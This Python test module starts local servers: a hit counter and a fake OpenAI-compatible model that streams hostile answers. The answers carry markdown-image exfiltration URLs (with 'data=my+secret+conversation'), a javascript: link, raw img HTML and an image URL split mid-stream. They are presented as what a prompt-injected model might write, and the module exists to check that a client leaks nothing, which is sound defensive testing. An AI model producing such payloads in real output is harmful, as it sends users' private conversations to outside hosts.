"""Local servers for the "nothing from outside calls out" tests.

`LeakCounter` counts every request it gets: a page that loads an image from it, or a browser that follows
a link to it, shows up as a hit. `HostileModel` is an OpenAI-compatible server whose answers carry image
markdown pointing at the counter, links with `)` in them and raw HTML; it records every request body, so
a test can read the exact messages the model was given.
"""

from __future__ import annotations

import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


class LeakCounter(BaseHTTPRequestHandler):
    hits: list[str] = []

    def log_message(self, *args):
        pass

    def do_GET(self):
        LeakCounter.hits.append(self.path)
        body = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"  # a 1x1 image, so a leak would even render
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(body)


def hostile_answer(leak: str) -> list[str]:
    """An answer a prompt-injected model might write, in the pieces it streams in (an image split mid-URL)."""
    return [
        "Here is the answer [1]. ![exfil](",
        f"{leak}/answer?data=",
        "my+secret+conversation) and ",
        f'[a link](https://example.com/x_(y)) and [bad](javascript:alert(1)) <img src="{leak}/tag"> ',
        f"\n\n![ref][r]\n\n[r]: {leak}/reference.png\n\n| a | b |\n| - | - |\n| ![c]({leak}/cell) | ok |",
    ]


class HostileModel(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    requests: list[dict] = []
    leak = "http://127.0.0.1:9"  # set by the test to its LeakCounter's URL

    def log_message(self, *args):
        pass

    def _json(self, status: int, payload: dict) -> None:
        body = json.dumps(payload).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self._json(200, {"object": "list", "data": [{"id": "m", "object": "model"}]})

    def _event(self, payload: dict | str) -> None:
        data = payload if isinstance(payload, str) else json.dumps(payload)
        event = f"data: {data}\n\n".encode()
        self.wfile.write(f"{len(event):x}\r\n".encode() + event + b"\r\n")
        self.wfile.flush()

    def do_POST(self):
        HostileModel.requests.append(json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0)))))
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        chunk = {"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "m"}
        for piece in hostile_answer(HostileModel.leak):
            self._event({**chunk, "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]})
            time.sleep(0.12)  # more than one screen update apart: each partial answer is drawn
        self._event(
            {
                **chunk,
                "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}],
                "usage": {"prompt_tokens": 10, "completion_tokens": 20, "total_tokens": 30},
            }
        )
        self._event("[DONE]")
        self.wfile.write(b"0\r\n\r\n")


def start(handler) -> tuple[ThreadingHTTPServer, str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}"
